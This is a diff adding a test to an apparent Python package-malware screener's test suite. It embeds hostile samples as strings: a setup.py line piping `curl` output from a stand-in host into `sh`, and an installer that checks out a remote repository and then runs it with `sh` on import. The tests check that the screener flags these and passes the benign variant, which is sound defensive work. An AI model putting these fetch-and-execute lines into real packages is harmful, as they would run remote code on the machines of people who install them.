@@ -876,3 +876,23 @@ def test_what_an_installer_reaches_is_proven_whatever_is_asked_for(condition: st
     """Only a branch that a maintainer's command alone leads into is not run while the package is installed."""
     source = f"import os, sys\n{condition}\n    os.system('curl -s https://stage.example.invalid/a | sh')\n"
     assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize("client", ["svn checkout -q", "git clone -q", "hg clone"])
+def test_a_checkout_does_not_run_the_folder_that_it_is_given(client: str) -> None:
+    """An installer reads a page, follows a link of it, and checks out what lies there; nothing of that is started."""
+    source = (
+        "import os, tempfile\n"
+        "from urllib.parse import unquote\n"
+        "from urllib.request import urlopen\n"
+        "def get(name):\n"
+        "    page = urlopen('https://c.example.invalid/simple/%s/' % name).read().decode()\n"
+        "    link = unquote(page.split('\"')[1])\n"
+        "    target = os.path.join(tempfile.mkdtemp(), link.split('/')[-1])\n"
+        "    open(target, 'w').write(page)\n"
+        f"    os.system('{client} %s %s' % (link, target))\n"
+    )
+    honest = screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL)
+    assert honest.verdict is Verdict.CLEAN, honest.findings
+    started = f"{source}    os.system('sh %s' % target)\nget('a')\n"
+    assert screen_bytes(pack({INIT: started}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS
